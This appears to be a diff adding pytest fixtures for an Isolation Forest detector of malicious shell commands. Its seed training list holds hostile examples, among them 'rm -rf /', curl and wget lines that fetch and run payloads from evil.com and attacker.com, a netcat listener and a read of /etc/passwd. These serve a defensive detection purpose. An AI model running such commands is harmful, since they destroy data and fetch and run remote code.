@@ -0,0 +1,40 @@
+import pytest
+
+import isolation_forest_runtime as runtime
+
+# Training rows seeded by sql/isolation_forest.sql
+SEED_TRAINING_COMMANDS = [
+    "ls", "cd /home/user", "cat file.txt", "git status", "npm install", "python script.py",
+    "vim file.js", "mkdir project", "cp file1 file2", "mv old new", "grep pattern file", 'find . -name "*.js"',
+    "rm -rf /", "wget http://evil.com/malware.sh", "chmod +x malware", "nc -l 4444", "nmap -sS target",
+    "cat /etc/passwd", "sudo su -", "python -c \"import os; os.system('rm -rf /')\"",
+    "curl http://attacker.com/payload.py | python", "ssh user@target -L 8080:localhost:22", "./backdoor &",
+    'bash -c "wget http://evil.com/shell.sh && chmod +x shell.sh && ./shell.sh"',
+]
+SEED_CONFIG = {"model_name": "hybrid_detection", "n_trees": 100, "contamination": 0.1, "sample_size": 256, "threshold": 0.6}
+
+
+@pytest.fixture
+def isolated_runtime(monkeypatch, tmp_path):
+    """Point the Isolation Forest runtime at tmp_path with seed training data and no database."""
+    models_dir = tmp_path / "models"
+    models_dir.mkdir()
+    monkeypatch.setattr(runtime, "MODELS_DIR", str(models_dir))
+    monkeypatch.setattr(runtime, "META_PATH", str(models_dir / "model_meta.json"))
+    monkeypatch.setattr(runtime, "MODEL_PATH", str(models_dir / "isolation_forest.pkl"))
+    monkeypatch.setattr(runtime, "_RUNTIME_CACHE", {"model": None, "meta": None, "version": None, "compiled": None})
+    monkeypatch.setattr(runtime, "_TRAINING_STATUS", dict(runtime._TRAINING_STATUS, state="idle"))
+    monkeypatch.setattr(runtime, "_get_active_config", lambda model_name=None: dict(SEED_CONFIG, model_name=model_name or "hybrid_detection"))
+    monkeypatch.setattr(runtime, "_iter_training_rows", lambda chunk_size=None: iter([
+        [{"id": i + 1, "command_pattern": c} for i, c in enumerate(SEED_TRAINING_COMMANDS)]
+    ]))
+    monkeypatch.setattr(runtime, "get_compiled_patterns", lambda: [])
+    return runtime
+
+
+@pytest.fixture
+def trained_runtime(isolated_runtime):
+    """``isolated_runtime`` with a default model fitted on the seed data and installed."""
+    model, meta = isolated_runtime._fit_model()
+    isolated_runtime._install(model, meta)
+    return isolated_runtime